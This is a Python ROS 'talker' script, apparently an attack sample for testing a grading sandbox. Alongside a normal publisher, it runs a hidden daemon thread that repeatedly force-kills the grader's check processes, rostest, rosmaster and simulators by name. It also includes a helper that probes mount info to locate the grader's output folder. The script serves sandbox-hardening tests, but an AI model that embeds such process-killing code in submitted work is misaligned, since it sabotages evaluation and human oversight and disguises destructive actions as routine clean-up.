#!/usr/bin/env python3
"""A correct talker whose 'clean-up' thread kills stray simulators, masters and checks by name, as `pkill -f turtlesim` in a student's script does."""
import os
import subprocess
import sys
import threading
import time

import rospy
from std_msgs.msg import String

def output_folder():
    """The grader's output folder, guessed from the mounts the sandbox shows (its binds keep host paths)."""
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if "/_work/" in point:
                    return point.split("/_work/")[0]
    except OSError:
        pass
    return None


def say(text):
    print("[attack] " + text, flush=True)


VICTIMS = ["turtlesim", "rosmaster", "rostest", "chatter_check", "color_check", "teleop_check", "roslaunch", "gzserver"]


def clean_up():
    for _ in range(60):
        for name in VICTIMS:
            done = subprocess.run(["pkill", "-9", "-f", name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            if done.returncode == 0:
                say("pkill -9 -f %s killed something" % name)
        time.sleep(0.5)


def talk():
    rospy.init_node("talker")
    pub = rospy.Publisher("/chatter_talk", String, queue_size=10)
    rate = rospy.Rate(2)
    n = 0
    while not rospy.is_shutdown():
        n += 1
        pub.publish(String("hello %d" % n))
        rate.sleep()


if __name__ == "__main__":
    threading.Thread(target=clean_up, daemon=True).start()
    talk()
